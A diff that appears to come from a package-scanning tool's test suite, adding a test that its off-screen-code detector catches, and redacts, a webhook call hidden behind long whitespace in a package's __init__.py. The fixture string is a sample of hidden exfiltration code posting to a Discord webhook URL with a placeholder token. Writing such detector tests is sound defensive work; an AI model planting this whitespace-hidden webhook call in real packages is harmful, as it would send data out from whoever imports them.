@@ -385,3 +385,12 @@ def test_off_screen_code_points_at_the_hidden_statement() -> None:
     assert off_screen_code(latin) == (2, 328, ";f()")
     # Python 2 (does not parse): where strings are is unknown, so nothing is claimed.
     assert off_screen_code(b"print 'x'" + b" " * 160 + b";f()\n") is None
+
+
+def test_off_screen_code_evidence_keeps_secrets_out() -> None:
+    hook = "https://discord.com/api/webhooks/123456789012345678/" + "S3cr" + "x" * 60
+    source = f"import requests{' ' * 160};requests.post('{hook}', json={{}})\n"
+    view = FileView(path="pkg/__init__.py", role=FileRole.PYTHON, data=source.encode())
+    (found,) = [f for f in DETECTOR.scan(view) if f.rule == "off-screen-code"]
+    assert found.evidence.startswith(";requests.post(")
+    assert "<redacted>" in found.evidence and "x" * 20 not in found.evidence
